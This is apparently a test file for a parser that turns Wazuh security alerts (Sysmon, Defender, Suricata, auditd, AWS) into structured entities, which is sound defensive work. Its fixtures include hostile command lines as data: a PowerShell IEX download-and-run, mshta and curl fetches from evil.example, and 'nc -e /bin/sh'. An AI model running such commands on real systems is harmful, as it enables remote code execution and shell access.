import { describe, expect, test } from "vitest";
import { sanitize } from "../../../src/adapters/alerts/sanitize.ts";
import { wazuh } from "../../../src/adapters/alerts/wazuh.ts";
import { Alert } from "../../../src/engine/domain/alert.ts";
import { samples } from "../../samples/index.ts";
import { cpuMs } from "../../support/cpu-time.ts";

const parse = (payload: unknown) => {
  const alert = wazuh.parse(sanitize(payload));
  expect(Alert.safeParse(alert).error).toBeUndefined();
  return alert;
};
const sample = (name: string) => samples.find((one) => one.name === `wazuh/${name}`)?.payload ?? {};
const base = {
  id: "1791184474.7",
  timestamp: "2026-10-05T07:14:34.891+0000",
  rule: { id: "1", level: 10, description: "Something" },
  agent: { id: "002", name: "web-1" },
};
const entities = (more: Record<string, unknown>) => parse({ ...base, ...more }).entities;

describe("an alert of Wazuh", () => {
  test("Sysmon: who ran what, with the program's hashes", () => {
    const alert = parse(sample("encoded-powershell"));
    expect(alert).toMatchObject({
      sourceId: "1791184474.1018",
      severity: "high",
      techniques: ["T1059.001"],
      category: "Execution",
      product: "wazuh",
    });
    expect(alert.detectedAt?.toISOString()).toBe("2026-10-05T07:14:34.891Z");
    const path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    expect(alert.entities.map(({ entity }) => entity)).toEqual([
      { kind: "device", name: "DESKTOP-CONTOSO1" },
      { kind: "user", name: "DESKTOP-CONTOSO1\\bluebird" },
      expect.objectContaining({
        kind: "process",
        path,
        pid: 5096,
        device: "DESKTOP-CONTOSO1",
        user: "DESKTOP-CONTOSO1\\bluebird",
        parent: path,
      }),
      {
        kind: "file",
        path,
        device: "DESKTOP-CONTOSO1",
        sha256: "86f51b17077aee2d7885528286a00aa632489cfee188cc99fbec881feb06dca7",
        md5: "2f2d399f0ea8844859fe5514b304733b",
      },
    ]);
    expect(alert.raw).toEqual(sample("encoded-powershell"));
  });

  test("a logon: the account it was for, and where it came from", () => {
    expect(parse(sample("remote-logon")).entities).toEqual([
      { entity: { kind: "device", name: "DESKTOP-CONTOSO1" }, roles: [] },
      {
        entity: { kind: "user", name: "DESKTOP-CONTOSO1\\bluebird", id: "S-1-5-21-1000000001-1000000002-1000000003-1001" },
        roles: ["target"],
      },
      { entity: { kind: "ip", address: "192.168.8.13" }, roles: ["source"] },
    ]);
  });

  test("the computer's own account is nobody", () => {
    expect(JSON.stringify(parse(sample("system-logon")).entities)).not.toContain("CONTOSO1$");
  });

  test("Defender Antivirus through Wazuh: what it found is malicious, and remediated only where it says so", () => {
    const file = { kind: "file", path: "C:\\ProgramData\\WinUpdateSvc\\updater.exe", device: "DESKTOP-CONTOSO1" };
    expect(parse(sample("antivirus-detection")).entities).toContainEqual({ entity: file, roles: [], verdict: "malicious" });
    const data = structuredClone(sample("antivirus-detection")) as {
      data: { win: { system: Record<string, string>; eventdata: Record<string, string> } };
    };
    data.data.win.system.eventID = "1117";
    data.data.win.eventdata["action Name"] = "Quarantine";
    expect(parse(data).entities).toContainEqual({ entity: file, roles: [], verdict: "malicious", remediation: "remediated" });
    expect(parse(data).category).toBe("Malware");
  });

  test("file integrity and VirusTotal: one file, with VirusTotal's word", () => {
    const hashes = { sha1: "a".repeat(40), md5: "b".repeat(32) };
    const syscheck = {
      path: "/tmp/x",
      event: "added",
      sha256_after: "c".repeat(64),
      sha1_after: hashes.sha1,
      md5_after: hashes.md5,
      audit: { user: { name: "root" }, process: { name: "/usr/bin/curl", id: "77" } },
    };
    expect(entities({ syscheck }).map(({ entity }) => entity)).toEqual([
      { kind: "device", name: "web-1" },
      { kind: "file", path: "/tmp/x", device: "web-1", sha256: "c".repeat(64), ...hashes },
      { kind: "process", path: "/usr/bin/curl", device: "web-1", pid: 77 },
      { kind: "user", name: "root" },
    ]);
    const virustotal = { source: { file: "/tmp/x", ...hashes }, malicious: "1", positives: "40", total: "70" };
    expect(entities({ data: { virustotal } })[1]).toEqual({
      entity: { kind: "file", path: "/tmp/x", device: "web-1", ...hashes },
      roles: [],
      verdict: "malicious",
    });
  });

  test("Suricata: addresses, name asked for, link, and that it was blocked", () => {
    const data = {
      src_ip: "10.0.0.5",
      dest_ip: "203.0.113.9",
      alert: { action: "blocked", signature: "x" },
      http: { hostname: "bad.example", url: "/a" },
      dns: { query: [{ rrname: "c2.example" }] },
    };
    expect(entities({ data }).slice(1)).toEqual([
      { entity: { kind: "ip", address: "10.0.0.5" }, roles: ["source"], remediation: "blocked" },
      { entity: { kind: "ip", address: "203.0.113.9" }, roles: ["destination"], remediation: "blocked" },
      { entity: { kind: "url", url: "http://bad.example/a" }, roles: [] },
      { entity: { kind: "domain", name: "c2.example" }, roles: ["destination"] },
    ]);
  });

  test("a link in a command line is one to look into, defanged or not", () => {
    const urls = (commandLine: string) =>
      entities({ data: { win: { eventdata: { image: "C:\\\\Windows\\\\x.exe", commandLine } } } })
        .filter(({ entity }) => entity.kind === "url")
        .map(({ entity, roles }) => [entity.kind === "url" && entity.url, ...roles]);
    expect(urls(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9:8080/a.ps1')"`)).toEqual([
      ["http://203.0.113.9:8080/a.ps1", "related"],
    ]);
    expect(urls("mshta hxxps[:]//evil[.]example/x.hta, then HTTPS://Evil.example/b?c=d&e;")).toEqual([
      ["https://evil.example/x.hta", "related"],
      ["HTTPS://Evil.example/b?c=d&e", "related"],
    ]);
    expect(urls("curl http://$server/a ftp:// hxxp://[ C:\\x\\http.exe")).toEqual([]);
    expect(entities({ data: { audit: { exe: "/usr/bin/curl", execve: { a0: "curl", a1: "http://evil.example/i.sh" } } } })).toContainEqual({
      entity: { kind: "url", url: "http://evil.example/i.sh" },
      roles: ["related"],
    });
    const started = cpuMs();
    urls("hxxp://".repeat(4000));
    urls(`http://${"[.]".repeat(10_000)}`);
    expect(cpuMs() - started).toBeLessThan(1000);
  });

  test("flat decoders, auditd and AWS", () => {
    expect(entities({ data: { srcip: "203.0.113.9", dstuser: "root", srcuser: "-" } }).slice(1)).toEqual([
      { entity: { kind: "ip", address: "203.0.113.9" }, roles: ["source"] },
      { entity: { kind: "user", name: "root" }, roles: ["target"] },
    ]);
    expect(
      entities({ data: { audit: { exe: "/bin/nc", execve: { a1: "-e", a0: "nc", a2: "/bin/sh" }, pid: "9" } } })[1]?.entity,
    ).toMatchObject({ commandLine: "nc -e /bin/sh", pid: 9 });
    const aws = {
      sourceIPAddress: "203.0.113.9",
      userIdentity: {
        type: "AssumedRole",
        userName: "x",
        accessKeyId: "ASIAEXAMPLE",
        sessionContext: { sessionIssuer: { arn: "arn:aws:iam::1:role/r" } },
      },
    };
    expect(entities({ data: { aws } }).map(({ entity }) => entity.kind)).toEqual(["device", "ip", "cloud-resource", "access-key"]);
  });

  test("several where one is usual are all taken", () => {
    const data = { srcip: ["203.0.113.9", "203.0.113.10", null], dstuser: ["root", "mia@contoso.com"], user: ["tom"] };
    expect(entities({ data }).map(({ entity }) => Object.values(entity).at(-1))).toEqual([
      "web-1",
      "203.0.113.9",
      "203.0.113.10",
      "root",
      "mia@contoso.com",
      "tom",
    ]);
  });

  test("an address that is none is kept as what the source called it", () => {
    expect(entities({ data: { srcip: "somewhere" } })[1]?.entity).toEqual({
      kind: "generic",
      type: "ip",
      value: '{"address":"somewhere"}',
    });
  });

  test.each([
    [0, "informational"],
    [3, "informational"],
    [4, "low"],
    [6, "low"],
    [7, "medium"],
    [11, "medium"],
    [12, "high"],
    [14, "high"],
    [15, "critical"],
    ["12", "high"],
  ])("level %s is %s", (level, severity) => expect(parse({ ...base, rule: { ...base.rule, level } }).severity).toBe(severity));

  test.each([["_source"], ["all_fields"]])("as %s wraps it", (name) => {
    expect(parse({ _id: "x", [name]: base })).toMatchObject({ sourceId: base.id, raw: { [name]: base } });
  });

  test.each([
    [{ ...base, rule: undefined }, "rule"],
    [{ ...base, rule: "high" }, "rule"],
    [{ ...base, rule: { description: "x" } }, "rule.level"],
    [{ ...base, rule: { level: "severe", description: "x" } }, "rule.level"],
    [{ ...base, rule: { level: 3 } }, "rule.description"],
    [{ ...base, id: null }, "id"],
    [{ all_fields: { ...base, rule: { level: 99, description: "x" } } }, "all_fields.rule.level"],
    [[], undefined],
  ])("says which field is wrong (%#)", (payload, field) => {
    expect(() => wazuh.parse(sanitize(payload))).toThrow(expect.objectContaining({ code: "invalid", field }));
  });
});
